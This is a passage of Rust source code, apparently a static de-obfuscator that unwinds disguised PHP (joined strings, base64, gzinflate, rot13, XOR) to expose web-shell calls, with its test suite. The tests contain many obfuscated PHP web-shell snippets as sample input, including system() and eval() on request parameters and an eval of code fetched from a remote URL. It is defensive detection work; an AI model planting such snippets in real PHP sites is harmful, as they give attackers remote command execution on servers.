                    b"bindec" => 2,
                    b"hexdec" => 16,
                    _ => 8,
                };
                let mut v: i64 = 0;
                for &c in s(0)? {
                    let d = (c as char).to_digit(radix);
                    if let Some(d) = d {
                        v = v.checked_mul(i64::from(radix))?.checked_add(i64::from(d))?;
                    }
                }
                return Some(Tok::Num(v, None));
            }
            b"explode" if args.len() == 2 || args.len() == 3 => {
                let (sep, v) = (s(0)?, s(1)?);
                if sep.is_empty() {
                    return None;
                }
                let mut items = Vec::new();
                let mut at = 0;
                for p in memchr::memmem::find_iter(v, sep) {
                    if p < at {
                        continue;
                    }
                    items.push(v[at..p].to_vec());
                    at = p + sep.len();
                    if items.len() > 4096 {
                        return None;
                    }
                }
                items.push(v[at..].to_vec());
                return Some(Tok::Arr(items));
            }
            b"strrev" if one => s(0)?.iter().rev().copied().collect(),
            b"str_rot13" if one => s(0)?.iter().map(|&c| rot13(c)).collect(),
            b"strtolower" if one => s(0)?.to_ascii_lowercase(),
            b"strtoupper" if one => s(0)?.to_ascii_uppercase(),
            b"ucfirst" | b"lcfirst" if one => {
                let mut v = s(0)?.to_vec();
                if let Some(c) = v.first_mut() {
                    if name == b"ucfirst" {
                        c.make_ascii_uppercase();
                    } else {
                        c.make_ascii_lowercase();
                    }
                }
                v
            }
            b"trim" | b"ltrim" | b"rtrim" if one => {
                let v = s(0)?;
                let ws = |c: &u8| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | 0 | 0x0b);
                let start = if name == b"rtrim" {
                    0
                } else {
                    v.iter().position(|c| !ws(c)).unwrap_or(v.len())
                };
                let end = if name == b"ltrim" {
                    v.len()
                } else {
                    v.iter().rposition(|c| !ws(c)).map_or(start, |e| e + 1)
                };
                v[start..end.max(start)].to_vec()
            }
            b"strval" | b"stripslashes" if one => match name {
                b"strval" => s(0)?.to_vec(),
                _ => strip_slashes(s(0)?),
            },
            b"base64_decode" if !args.is_empty() && args.len() <= 2 => base64_lenient(s(0)?),
            b"hex2bin" if one => hex_decode(s(0)?)?,
            b"urldecode" | b"rawurldecode" if one => url_decode(s(0)?, name == b"urldecode"),
            b"gzinflate" | b"gzuncompress" | b"gzdecode" if one => inflate(name, s(0)?)?,
            b"str_replace" | b"str_ireplace" if args.len() == 3 => {
                let subject = s(2)?;
                let repl = s(1)?;
                let search: &[Vec<u8>] = match &args[0] {
                    Tok::Str(x, _) => std::slice::from_ref(x),
                    Tok::Arr(a) => a,
                    _ => return None,
                };
                let mut v = subject.to_vec();
                for x in search.iter().filter(|x| !x.is_empty()) {
                    // Each pass over the subject is paid for.
                    if !self.budget.take(v.len()) {
                        return None;
                    }
                    v = replace_all(&v, x, repl, name == b"str_ireplace");
                    if v.len() > MAX_STRING {
                        return None;
                    }
                }
                v
            }
            b"strtr" if args.len() == 3 => {
                // A byte named twice in `from` maps as its first occurrence says
                // (PHP takes the last; kept as the folder had it).
                let (from, to) = (s(1)?, s(2)?);
                let mut table: [Option<u8>; 256] = [None; 256];
                for (f, t) in from.iter().zip(to).rev() {
                    table[usize::from(*f)] = Some(*t);
                }
                s(0)?
                    .iter()
                    .map(|c| table[usize::from(*c)].unwrap_or(*c))
                    .collect()
            }
            b"substr" if args.len() == 2 || args.len() == 3 => {
                let v = s(0)?;
                let len = v.len() as i64;
                let mut start = n(1)?;
                if start < 0 {
                    start = (len + start).max(0);
                }
                let start = start.min(len);
                let end = match args.get(2) {
                    None => len,
                    Some(_) => {
                        let l = n(2)?;
                        if l < 0 {
                            (len + l).max(start)
                        } else {
                            start.saturating_add(l).min(len)
                        }
                    }
                };
                v[start as usize..end as usize].to_vec()
            }
            b"str_repeat" if args.len() == 2 => {
                let (v, k) = (s(0)?, usize::try_from(n(1)?).ok()?);
                if v.len().saturating_mul(k) > MAX_STRING {
                    return None;
                }
                v.repeat(k)
            }
            b"implode" | b"join" => match args {
                [Tok::Str(g, _), Tok::Arr(a)] | [Tok::Arr(a), Tok::Str(g, _)] => {
                    a.join(g.as_slice())
                }
                [Tok::Arr(a)] => a.concat(),
                _ => return None,
            },
            b"pack" if args.len() >= 2 => match s(0)? {
                fmt if fmt.starts_with(b"H") && args.len() == 2 => hex_decode(s(1)?)?,
                // Bytes given as numbers (pack('c*', 0x70, 0x61, 99, 107) is "pack"),
                // the low eight bits of each as PHP keeps them.
                b"c*" | b"C*" => args[1..]
                    .iter()
                    .map(|a| match a {
                        Tok::Num(n, _) => Some((*n & 0xff) as u8),
                        _ => None,
                    })
                    .collect::<Option<Vec<u8>>>()?,
                _ => return None,
            },
            _ => return None,
        };
        self.computed(v)
    }
}

/// Replace the stack from `at` on with `v` (a reduction done).
fn put(out: &mut Vec<Tok>, at: usize, v: Tok) -> bool {
    out.truncate(at);
    out.push(v);
    true
}

/// A bracketed group at the top of the stack (see `Pass::group`).
struct Group {
    open: usize,
    args: Vec<Tok>,
    before: Option<usize>,
}

/// The values of an array literal whose items are all strings or integers.
fn string_items(items: &[Tok]) -> Option<Vec<Vec<u8>>> {
    items
        .iter()
        .map(|a| match a {
            Tok::Str(s, _) => Some(s.clone()),
            Tok::Num(n, _) => Some(n.to_string().into_bytes()),
            _ => None,
        })
        .collect()
}

fn rot13(c: u8) -> u8 {
    match c {
        b'a'..=b'z' => (c - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (c - b'A' + 13) % 26 + b'A',
        _ => c,
    }
}

fn strip_slashes(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'\\' && i + 1 < v.len() {
            out.push(if v[i + 1] == b'0' { 0 } else { v[i + 1] });
            i += 2;
        } else if v[i] != b'\\' {
            out.push(v[i]);
            i += 1;
        } else {
            i += 1;
        }
    }
    out
}

/// base64 the way PHP's non-strict `base64_decode` reads it: bytes outside the
/// alphabet are skipped.
fn base64_lenient(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for &c in v {
        let d = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            _ => continue,
        };
        acc = (acc << 6) | u32::from(d);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}

fn hex_decode(v: &[u8]) -> Option<Vec<u8>> {
    if !v.len().is_multiple_of(2) || !v.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    Some(
        v.chunks(2)
            .map(|p| (hexval(p[0]) * 16 + hexval(p[1])) as u8)
            .collect(),
    )
}

fn url_decode(v: &[u8], plus: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        match v[i] {
            b'%' if v.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && v.get(i + 2).is_some_and(u8::is_ascii_hexdigit) =>
            {
                out.push((hexval(v[i + 1]) * 16 + hexval(v[i + 2])) as u8);
                i += 3;
            }
            b'+' if plus => {
                out.push(b' ');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

fn inflate(name: &[u8], v: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let cap = MAX_STRING as u64 + 1;
    let read = match name {
        b"gzinflate" => flate2::read::DeflateDecoder::new(v)
            .take(cap)
            .read_to_end(&mut out),
        b"gzuncompress" => flate2::read::ZlibDecoder::new(v)
            .take(cap)
            .read_to_end(&mut out),
        _ => flate2::read::GzDecoder::new(v)
            .take(cap)
            .read_to_end(&mut out),
    };
    (read.is_ok() && out.len() <= MAX_STRING).then_some(out)
}

/// Every occurrence of `from` in `v` (left to right, not overlapping) replaced by
/// `to`; `nocase`: ASCII case ignored. Linear in `v`.
fn replace_all(v: &[u8], from: &[u8], to: &[u8], nocase: bool) -> Vec<u8> {
    let (hay, needle) = if nocase {
        (v.to_ascii_lowercase(), from.to_ascii_lowercase())
    } else {
        (v.to_vec(), from.to_vec())
    };
    let mut out = Vec::with_capacity(v.len());
    let mut at = 0;
    for p in memchr::memmem::find_iter(&hay, &needle) {
        if p < at {
            continue;
        }
        out.extend_from_slice(&v[at..p]);
        out.extend_from_slice(to);
        at = p + from.len();
    }
    out.extend_from_slice(&v[at..]);
    out
}

fn emit(src: &[u8], toks: &[Tok]) -> Vec<u8> {
    let mut out = Vec::with_capacity(src.len());
    for t in toks {
        match t {
            Tok::Ws(nl) => out.push(if *nl { b'\n' } else { b' ' }),
            Tok::Str(_, Some(((s, e), false))) => out.extend_from_slice(&src[*s..*e]),
            Tok::Str(v, Some((_, true))) => {
                // An unescaped double-quoted literal, written single-quoted so that
                // double quotes stay the folder's own.
                out.push(b'\'');
                for &b in v {
                    if b == b'\'' || b == b'\\' {
                        out.push(b'\\');
                    }
                    out.push(b);
                }
                out.push(b'\'');
            }
            Tok::Str(v, None) => {
                out.push(b'"');
                out.extend_from_slice(v);
                out.push(b'"');
            }
            Tok::Num(_, Some((s, e))) => out.extend_from_slice(&src[*s..*e]),
            Tok::Num(n, None) => out.extend_from_slice(n.to_string().as_bytes()),
            Tok::Arr(items) => {
                out.push(b'[');
                for (i, it) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(b',');
                    }
                    out.push(b'"');
                    out.extend_from_slice(it);
                    out.push(b'"');
                }
                out.push(b']');
            }
            Tok::Req(r) | Tok::Text(r) => out.extend_from_slice(r),
            Tok::Ident((s, e)) | Tok::Op((s, e)) | Tok::Raw((s, e)) => {
                out.extend_from_slice(&src[*s..*e])
            }
            Tok::Var((s, e)) => {
                out.push(b'$');
                out.extend_from_slice(&src[*s..*e]);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn view(src: &str) -> String {
        let v = fold(src.as_bytes()).unwrap_or_else(|| panic!("nothing folded in {src}"));
        String::from_utf8_lossy(&v).into_owned()
    }

    #[test]
    fn joined_escaped_and_computed_names_are_spelled_out() {
        assert!(view("<?php $f = 'sy'.'st'.'em'; ").contains(r#"$f = "system";"#));
        // Bare lowercase words, grouping, a string literal called.
        assert!(view("<?=(sy.(st).(em))($_GET['cmd'])?>").contains(r#""system"($_GET['cmd'])"#));
        assert!(view(r#"<?php $x = "\x73\x79\x73\164em";"#).contains(r#""system""#));
        assert!(
            view("<?php $x = chr(0x73).chr(121).chr(115).chr(116).chr(101).chr(109);")
                .contains(r#""system""#)
        );
        assert!(
            view("<?php $x = str_rot13('flfgrz') . strrev('lave');").contains(r#""systemeval""#)
        );
        assert!(view("<?php $x = str_replace('x', '', 'axsxxsxexrxxt');").contains(r#""assert""#));
        assert!(view("<?php $x = chr(4*4*(5+5)-45).chr(121);").contains(r#""sy""#));
        // Bytes packed from numbers (decimal, hex; the low eight bits kept); a
        // format the folder does not know is left as written.
        assert!(
            view("<?php $i = pack('c*', 0x70, 0x61, 99, 107); $x = pack('C*', 0x173, 121);")
                .contains(r#"$i = "pack"; $x = "sy";"#)
        );
        assert!(fold(b"<?php $x = pack('n*', 115, 121);").is_none());
        // XOR of strings, and a superglobal reached by the name it computes.
        let v = view("<?= $_=\"`{{{\"^\"?<>/\";${$_}[$_](${$_}[_._._._]);");
        assert!(v.contains(r#"$_="_GET""#), "{v}");
        assert!(v.contains(r#"${"_GET"}"#), "{v}");
        assert!(v.contains("$_GET['_GET']($_GET['____'])"), "{v}");
        let v = view("<?php $_=${'_'.('{{{'^'<>/')};$_[0]($_[1]);");
        assert!(v.contains("$_GET[0]($_GET[1])"), "{v}");
        // A string called as a function is that function: chr reached through a
        // variable that holds its name.
        let v = view("<?php $c = chr(99).chr(104).chr(114); $f = $c(115).$c(121).$c(115);");
        assert!(v.contains(r#"$f = "sys";"#), "{v}");
        // ... but not a method of that name, nor a function the folder does not know.
        let v = view("<?php $o->{'chr'}(115); $x = 'system'(1); $y = 'a'.'b';");
        assert!(v.contains(r#"$o->{'chr'}(115)"#), "{v}");
        assert!(v.contains("'system'(1)"), "{v}");
        // PHP 5 and 7's string offsets in braces.
        let v = view("<?php $f = 'hello'{1} . 'world'{0} . 'xyz'{-1};");
        assert!(v.contains(r#"$f = "ewz";"#), "{v}");
        // A string that is one variable is that variable's value.
        let v = view(r#"<?php $c = $_GET['c']; $d = "$c"; passthru("$d");"#);
        assert!(v.contains("passthru($_GET['c'])"), "{v}");
    }

    #[test]
    fn variables_assigned_once_are_replaced_where_read() {
        let v = view("<?php $fn = 'sy'.'stem'; $c = $_POST['c']; $fn($c);");
        assert!(v.contains(r#""system"($_POST['c'])"#), "{v}");
        // Request input in other spellings.
        let v = view("<?php $c = filter_input(INPUT_GET, 'cmd', FILTER_DEFAULT); call_user_func('system', $c);");
        assert!(v.contains("call_user_func('system', $_GET['cmd'])"), "{v}");
        // A long URL is replaced too.
        let v = view("<?php $u = 'https://code.example.org/some/rather/long/path/to/the/kit/main/panel-v2.php'; $c = file_get_contents($u);");
        assert!(
            v.contains("file_get_contents(\"https://code.example.org/"),
            "{v}"
        );
        let v = view("<?php $b = file_get_contents('php://input'); eval($b);");
        assert!(v.contains("eval($_POST['php://input'])"), "{v}");
        let v = view("<?php $h = getenv('HTTP_X_CMD'); system($h);");
        assert!(v.contains("system($_SERVER['HTTP_X_CMD'])"), "{v}");
        // Arrays of pieces, by index and joined.
        let v = view("<?php $s = ['sy', 'st', 'em']; call_user_func($s[0].$s[1].$s[2], 1);");
        assert!(v.contains(r#"call_user_func("system", 1)"#), "{v}");
        let v = view("<?php $s = array('s','y','s','t','e','m'); $a = join('', $s); $a(1);");
        assert!(v.contains(r#""system"(1)"#), "{v}");
        let v = view("<?php $c = explode('.', 'x.as.y.sert'); f($c[1].$c[3], 1);");
        assert!(v.contains(r#"f("assert", 1)"#), "{v}");
        // A view is made when a rule could see something new in it: not for a
        // value echoed, prose joined, request input as written or arithmetic.
        assert!(fold(b"<?php $a = 'x_y'; foo($a);").is_some());
        assert!(fold(b"<?php $a = 'x'; echo $a; $b = 'Hello, ' . 'world.';").is_none());
        assert!(fold(b"<?php echo strlen($_GET['q']) + 60 * 60; // sy'.'stem").is_none());
    }

    #[test]
    fn request_input_reaching_a_command_through_variables_is_marked() {
        // Written several times, once from the request: what system() runs is the
        // client's.
        let v = view(
            "<?php $c = str_replace('a', 'b', $_POST['c']); if ($x) { $c = 'ls'; } $d = 'cd /tmp;' . $c; system($d); passthru(@$c);",
        );
        assert!(v.contains("system($_REQUEST['via $d'])"), "{v}");
        assert!(v.contains("passthru(@$_REQUEST['via $c'])"), "{v}");
        // Joined into the command (wwwolf's `popen('exec 2>&1; ' . $cmd, 'r')`).
        let v = view(
            "<?php $cmd = empty($_POST['cmd']) ? '' : $_POST['cmd']; $p = popen('exec 2>&1; ' . $cmd, 'r'); system($cmd . ' 2>&1');",
        );
        assert!(
            v.contains("popen('exec 2>&1; ' . $_REQUEST['via $cmd'], 'r')"),
            "{v}"
        );
        assert!(v.contains("system($_REQUEST['via $cmd'] . ' 2>&1')"), "{v}");
        // Run by the shell's backticks, whole (Hima Shell's `$exec`).
        let v = view("<?php $e = $_POST['command']; $e .= ' 2>&1'; $out = `$e`; echo `ls`;");
        assert!(v.contains("$out = `$_REQUEST['via $e']`"), "{v}");
        // Handed through a function that passes its text on, itself the command or
        // code (`eval(stripslashes($phpcode))`, for-just-we `mark405`).
        let v = view(
            "<?php $p = isset($_POST['p']) ? $_POST['p'] : 'phpinfo();'; eval(stripslashes($p)); system(@trim($p));",
        );
        assert!(v.contains("eval(stripslashes($_REQUEST['via $p']))"), "{v}");
        assert!(v.contains("system(@trim($_REQUEST['via $p']))"), "{v}");
        // Escaped for the shell (also inside a larger argument), joined into another
        // argument than the command, a method of that name, or never from the
        // request: left alone.
        for src in [
            "<?php $f = escapeshellarg($_GET['f']); $f .= ''; system($f); $z = 'a'.'b';",
            "<?php $c = $_GET['c']; $c .= ''; system('ls ' . escapeshellarg($c)); $z = 'a'.'b';",
            "<?php $c = $_GET['c']; $c .= ''; exec('ls', $out, $r . $c); $z = 'a'.'b';",
            "<?php $c = $_GET['c']; $c .= ''; $o->system($c); $o->system('ls ' . $c); $z = 'a'.'b';",
            "<?php $c = $_GET['c']; $c .= ''; $m = $list['x' . $c]; system($m[0]); $z = 'a'.'b';",
            "<?php $c = 'ls'; $c .= ' -l'; system($c); system('cd /; ' . $c); $o = `$c`; $z = 'a'.'b';",
            // A pass-through function that is not itself the command, or a
            // sanitizer in its place.
            "<?php $c = $_GET['c']; $c .= ''; echo trim($c); system(intval($c)); system('ls', trim($c)); $z = 'a'.'b';",
        ] {
            let v = view(src);
            assert!(!v.contains("via $"), "{src}: {v}");
        }
    }

    #[test]
    fn decoded_data_reaching_eval_is_written_out() {
        // Assigned from a decoder in two functions alike: each function's own.
        let v = view(
            "<?php function a($r) { $c = gzinflate(base64_decode($r)); return 1; } function b($r) { $c = gzinflate(base64_decode($r)); eval('?>' . $c); }",
        );
        assert!(
            v.contains("eval('?>' . gzinflate(base64_decode($r)))"),
            "{v}"
        );
        let v = view("<?php $s = base64_decode($_GP['eval']); eval($s);");
        assert!(v.contains("eval(base64_decode($_GP['eval']))"), "{v}");
        // Not reaching a command or code: no view.
        assert!(fold(b"<?php $s = base64_decode($x); echo $s;").is_none());
    }

    #[test]
    fn calls_parted_by_comments_are_written_whole() {
        let v = view(
            "<?= @eval/****/(\"?>\".file_get_contents/**/(\"https://code.example.net/a.txt\")); ?>",
        );
        assert!(
            v.contains("@eval ('?>'.file_get_contents ('https://code.example.net/a.txt'))"),
            "{v}"
        );
        // A comment elsewhere is no reason for a view.
        assert!(fold(b"<?php /* a */ foo(1); // b\n bar(/* c */ 2);").is_none());
    }

    #[test]
    fn each_function_has_its_own_variables() {
        // One name assigned differently in two functions: each read sees its own.
        let v = view(
            "<?php function a($t, $c) { $c = gzinflate(base64_decode($c)); return $t; } function b($raw) { $c = gzinflate(base64_decode($raw)); eval('?>' . $c); }",
        );
        assert!(
            v.contains("eval('?>' . gzinflate(base64_decode($raw)))"),
            "{v}"
        );
        // A function's own write leaves the file's value alone, and the reverse.
        let v =
            view("<?php $f = 'sy'.'stem'; function g() { $f = 'x'; return $f; } $f($_GET['c']);");
        assert!(v.contains(r#""system"($_GET['c'])"#), "{v}");
        let v =
            view("<?php $f = 'a'; $f .= 'b'; function g() { $f = 'sy'.'stem'; $f($_GET['c']); }");
        assert!(v.contains(r#""system"($_GET['c'])"#), "{v}");
        // `global` reads (and writes) the file's own.
        let v = view("<?php $f = 'sy'.'stem'; function g() { global $x, $f; $f($_GET['c']); }");
        assert!(v.contains(r#""system"($_GET['c'])"#), "{v}");
        let v =
            view("<?php $f = 'sy'.'stem'; function g() { global $f; $f = 'x'; } $f($_GET['c']);");
        assert!(v.contains("$f($_GET['c'])"), "{v}");
        // A closure's parameter is its own; what it does not write is its parent's.
        let v = view("<?php function h() { $f = 'sy'.'stem'; $g = function ($f) { $f(1); }; $k = function () use ($f) { $f(2); }; }");
        assert!(v.contains("$f(1)") && v.contains(r#""system"(2)"#), "{v}");
        // Taint follows a variable within its function only.
        assert!(
            fold(b"<?php function a() { $c = $_GET['c']; } function b($c) { system($c); }")
                .is_none()
        );
        // A file written by the name the request gives.
        let v = view("<?php $p = isset($_REQUEST['p']) ? $_REQUEST['p'] : ''; file_put_contents($p, $_POST['c']);");
        assert!(
            v.contains("file_put_contents($_REQUEST['via $p'], $_POST['c'])"),
            "{v}"
        );
        // Not when the input is only part of the name (`$_GET['f'] . '.cache'`).
        let v = view("<?php $p = $_GET['f'] . '.' . $n . '.cache'; $q = $p; $h = fopen($q, 'wb'); system($p);");
        assert!(
            v.contains("fopen($q, 'wb')") && v.contains("system($_REQUEST['via $p'])"),
            "{v}"
        );
        let v = view("<?php function a() { $c = $_GET['c']; $c = trim($c); system($c); }");
        assert!(v.contains("system($_REQUEST['via $c'])"), "{v}");
    }

    #[test]
    fn what_is_written_twice_or_by_reference_is_left_alone() {
        // Written twice: not a constant.
        let v = view("<?php $f = 'a'.'b'; $f = 'exec'; $f($x);");
        assert!(v.contains("$f($x)"), "{v}");
        // Written through ++, .=, an element, a reference, a parameter, a loop.
        for src in [
            "<?php $f = 'a'.'b'; $f .= 'c'; $f(1);",
            "<?php $f = 'a'.'b'; $f++; $f(1);",
            "<?php $f = 'a'.'b'; $f[0] = 'x'; $f(1);",
            "<?php $f = 'a'.'b'; $g = &$f; $f(1);",
            "<?php $f = 'a'.'b'; function g($f) { $f(1); }",
            "<?php $f = 'a'.'b'; foreach ($l as $f) { $f(1); }",
        ] {
            assert!(view(src).contains("$f(1)"), "{src}: {}", view(src));
        }
        // A method or property of that name is not the variable.
        let v = view("<?php $m = 'ex'.'ec'; $o->m(1); Foo::$m; $o->$m;");
        assert!(v.contains("Foo::$m") && v.contains("$o->$m"), "{v}");
    }

    #[test]
    fn precedence_is_php_s() {
        // `.` binds looser than + and tighter than ^ (PHP 8).
        assert!(view("<?php $a = 'n' . 1 + 2;").contains(r#""n3""#));
        assert!(view("<?php $a = 'x' . 2 + 3 * 4;").contains(r#""x14""#));
        // 'a' ^ ('b' . 'c') : XOR keeps the shorter length.
        assert!(view("<?php $a = 'a' ^ 'b' . 'c';").contains("$a = \"\x03\";"));
        // A call on a value and an index are not folded away.
        let v = view("<?php $a = 'x' . 'y'($z) . 'q'[$i]; $b = 'm'.'n';");
        assert!(v.contains("'y'($z)") && v.contains("'q'[$i]"), "{v}");
        // Methods, declarations and unknown functions keep their calls.
        let v = view("<?php $o->strrev('ab'); function strrev_x() {} $b = strrev('ab');");
        assert!(
            v.contains("$o->strrev('ab')") && v.contains(r#"$b = "ba""#),
            "{v}"
        );
    }

    #[test]
    fn code_in_computed_strings_is_folded_and_appended() {
        // preg_replace with a base64 pattern and replacement: the /e shows.
        let v = view("<?php preg_replace(base64_decode('L2EvZQ=='),base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCRjb2RlKSk='),'a');");
        assert!(
            v.contains(r#"preg_replace("/a/e","eval(base64_decode($code))",'a')"#),
            "{v}"
        );
        assert!(v.contains("\n<?php eval(base64_decode($code))"), "{v}");
        // Nested: the payload's own literals are folded too.
        let inner = "$f='sys'.'tem';$f($_GET['c']);";
        let b64 = base64_std(inner.as_bytes());
        let v = view(&format!("<?php eval(base64_decode('{b64}'));"));
        assert!(v.contains(r#""system"($_GET['c'])"#), "{v}");
        // Compressed payloads.
        let mut z = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, b"system($_REQUEST['x']);").expect("deflate");
        let b64 = base64_std(&z.finish().expect("deflate"));
        let v = view(&format!("<?php eval(gzinflate(base64_decode('{b64}')));"));
        assert!(v.contains("system($_REQUEST['x'])"), "{v}");
    }

    #[test]
    fn heredocs_html_and_comments() {
        let v = view("<?php $c = <<<EOD\n\\$_ = 'sys'.'tem';\nEOD;\neval($c);");
        assert!(v.contains("$_ = 'sys'.'tem';"), "{v}");
        // PHP 5's script tag opens code too.
        let v = view(
            "<script language=\"php\">fputs(fopen(pack('H*','612e706870'),'w'),'x');</script>",
        );
        assert!(v.contains(r#"fopen("a.php",'w')"#), "{v}");
        // Quotes in inline HTML do not start strings.
        let v = view("<a title=\"it's\"><?php $f = 'sy'.'stem'; ?><b class='x'>");
        assert!(
            v.contains(r#"$f = "system";"#) && v.contains("<b class='x'>"),
            "{v}"
        );
        // Comments go; a comment between the pieces does not stop the join.
        let v = view("<?php $f = 'sy' /* x */ . # y\n 'stem'; // z");
        assert!(v.contains(r#""system""#) && !v.contains("/*"), "{v}");
        // Interpolating strings stay as they are.
        let v = view("<?php $f = \"a$b\" . 'c' . 'd';");
        assert!(v.contains("\"a$b\" . \"cd\""), "{v}");
    }

    #[test]
    fn fields_of_the_scripts_own_form_are_request_input_under_register_globals() {
        // A shell written for register_globals: `$cmd` is the posted field.
        let v = view(
            "<form method=post><input type=text name=\"cmd\"></form>\n\
             <?php if ($cmd == \"\") { $cmd = 'dir'; } system($cmd); ?>",
        );
        assert!(v.contains("system($_REQUEST['via $cmd'])"), "{v}");
        // The form printed from PHP, escaped quotes and all.
        let v = view("<?php print \"<input name=\\\"c\\\" type=text>\"; passthru($c);");
        assert!(v.contains("passthru($_REQUEST['via $c'])"), "{v}");
        // Set by the script itself: the field's value never reaches the call.
        let v =
            fold(b"<input name=\"cmd\"><?php $cmd = 'uptime -p'; $x = $_GET['x']; system($cmd);");
        assert!(v.is_none_or(|v| !contains(&v, b"via $cmd")));
        // No field of that name.
        let v = fold(b"<input name=\"other\"><?php $x = $_GET['x']; system($cmd);");
        assert!(v.is_none_or(|v| !contains(&v, b"via $cmd")));
    }

    #[test]
    fn a_silenced_value_is_the_value() {
        let v = view("<?php $f = @$_FILES['up']; move_uploaded_file($f['tmp_name'], $f['name']);");
        assert!(
            v.contains("move_uploaded_file($_FILES['up']['tmp_name'], $_FILES['up']['name'])"),
            "{v}"
        );
    }

    #[test]
    fn superglobals_reached_through_globals_are_request_input() {
        let v = view("<?php @eval($GLOBALS['_POST']['op']);");
        assert!(v.contains("@eval($_POST['op'])"), "{v}");
        let v = view("<?php system($GLOBALS[\"_GET\"]['c']);");
        assert!(v.contains("system($_GET['c'])"), "{v}");
        // The server's own values are not the client's.
        assert!(fold(b"<?php echo $GLOBALS['_SERVER']['DOCUMENT_ROOT'];").is_none());
    }

    #[test]
    fn a_string_left_open_at_the_end_is_read_to_the_end() {
        // A file cut short inside a string (a copy cut at the `?>` the string holds)
        // still joins into the code it was building.
        let v = view("<?php $a = \"<?php @eval(\" . \"$\" . \"_POST\" . \"[k]);?>");
        assert!(v.contains("<?php @eval($_POST[k]);?>"), "{v}");
        let v = view("<?php $a = 'sys' . 'tem");
        assert!(v.contains(r#""system""#), "{v}");
        // One that interpolates is left as it is.
        assert!(fold(b"<?php $a = 'x' . \"a$b").is_none());
    }

    #[test]
    fn hostile_input_is_bounded_and_never_panics() {
        // Unterminated strings, comments, heredocs; unbalanced brackets.
        for src in [
            "<?php 'abc",
            "<?php \"abc\\",
            "<?php /* abc",
            "<?php <<<EOD\nabc",
            "<?php <<<",
            "<?php )))]]]}}}((([[[{{{",
            "<?php $",
            "<?php 0x",
            "<?php 09 . 'a'",
            "<?php chr(-1) . chr(99999999999) . substr('abc', -10, -20) . substr('a', 5);",
            "<?php 9223372036854775807 + 1 . 'x' . 2 ** 200 . 1 << 99;",
            "<?php base64_decode('%%%') . hex2bin('zz') . gzinflate('nope');",
            "?><?php ?><?= ?>",
        ] {
            let _ = fold(src.as_bytes());
        }
        // A file of nothing but form tags is read once.
        let tags = "<input type=text value=x ".repeat(200_000);
        let _ = fold(format!("<?php system($x); ?>{tags}").as_bytes());
        assert!(form_fields(tags.as_bytes()).is_empty());
        // str_repeat beyond the limit is not built.
        let v = fold(b"<?php $a = str_repeat('x', 100000000) . 'y';");
        assert!(v.is_none_or(|v| v.len() < 1000));
        // A deep tower of joins stays linear and bounded.
        let mut src = String::from("<?php $a = 'a'");
        for _ in 0..20000 {
            src.push_str(" . 'bb'");
        }
        src.push(';');
        let v = fold(src.as_bytes()).expect("joined");
        assert!(v.len() <= src.len() * 2);
        // Work whose size the file chooses: long separators and search strings, a
        // long translation table, a large value read many times, unclosed indexes.
        let big = "ab".repeat(200_000);
        let half = "ab".repeat(100_000);
        for src in [
            format!("<?php $a = explode('{half}', '{big}') . 'x';"),
            format!("<?php $a = str_replace('{half}b', '', '{big}') . 'x';"),
            format!("<?php $a = strtr('{big}', '{half}', '{half}') . 'x';"),
            format!("<?php $v = '({big})'; {}", "f($v);".repeat(20_000)),
            format!("<?php $v = 'x'.'y'; {}", "$a[".repeat(50_000)),
        ] {
            let _ = fold(src.as_bytes());
        }
        // Payloads of payloads are bounded in all, not per level: 20 payloads that
        // each hold 20 more are 400 without that.
        let evals = |codes: Vec<String>| -> String {
            codes
                .iter()
                .map(|c| format!("eval(base64_decode('{}'));", base64_std(c.as_bytes())))
                .collect()
        };
        let level1 = evals(
            (0..20)
                .map(|i| evals((0..20).map(|j| format!("$z{i}_{j}=1;")).collect()))
                .collect(),
        );
        let src = format!("<?php {}", evals(vec![level1]));
        let v = String::from_utf8_lossy(&fold(src.as_bytes()).expect("folded")).into_owned();
        let innermost = v.matches("<?php $z").count();
        assert!(innermost <= MAX_PAYLOADS, "{innermost} innermost payloads");
        // Bytes that are not text at all.
        let junk: Vec<u8> = (0..20000u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect();
        let _ = fold(&[b"<?php ".as_slice(), &junk].concat());
    }

    fn base64_std(v: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for c in v.chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for k in 0..4 {
                if k <= c.len() {
                    out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }
}
